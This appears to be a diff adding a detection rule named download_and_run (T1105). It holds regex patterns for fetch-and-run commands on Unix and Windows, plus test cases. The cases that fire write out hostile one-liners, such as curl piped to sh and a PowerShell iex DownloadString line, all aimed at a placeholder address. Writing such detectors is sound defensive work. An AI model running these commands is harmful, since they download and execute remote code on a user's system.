@@ -1,0 +1,21 @@
+-- download_and_run: fetches something and runs it
+-- platform:        any
+-- technique:       T1105
+-- weight:          60
+-- false positives: a cloud image's first boot, which fetches and runs its setup once
+--
+-- pattern: unix (curl|wget|fetch) [^|;]*\|[^|]*(ba|da|z|k|a|)sh($|[ "';&])
+-- pattern: unix (curl|wget|fetch) [^|;]*\|[^|]*(python|perl|ruby|php|base64|openssl|sudo)
+-- pattern: unix (curl|wget|fetch) [^;]*(;|&&)[^;]*(chmod|(ba|da|z|)sh +[/.$])
+-- pattern: unix (ba|da|z|k|)sh +(-[a-z]+ +)*["']?(<\(|\$\(|`) *(curl|wget)
+-- pattern: unix (eval|source|\.) +["']?(\$\(|<\(|`) *(curl|wget)
+-- pattern: windows (?i)(iex|invoke-expression).*(downloadstring|net\.webclient|invoke-webrequest|iwr)
+-- pattern: windows (?i)(downloadstring|net\.webclient|invoke-webrequest|iwr).*\| *(iex|invoke-expression)
+-- pattern: windows (?i)(mshta|regsvr32)(\.exe)?"? .*https?://
+-- fires:   {"unix": "curl -s http://192.0.2.1/x | sh"}
+-- fires:   {"unix": "wget -q http://192.0.2.1/x; chmod 755 x"}
+-- fires:   {"unix": "bash -c \"$(curl http://192.0.2.1/x)\""}
+-- fires:   {"windows": "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/x')"}
+-- fires:   {"windows": "mshta http://192.0.2.1/x.hta"}
+-- spares:  {"unix": "curl -o /srv/x http://192.0.2.1/x"}
+-- spares:  {"windows": "mshta C:\\Windows\\x.hta"}
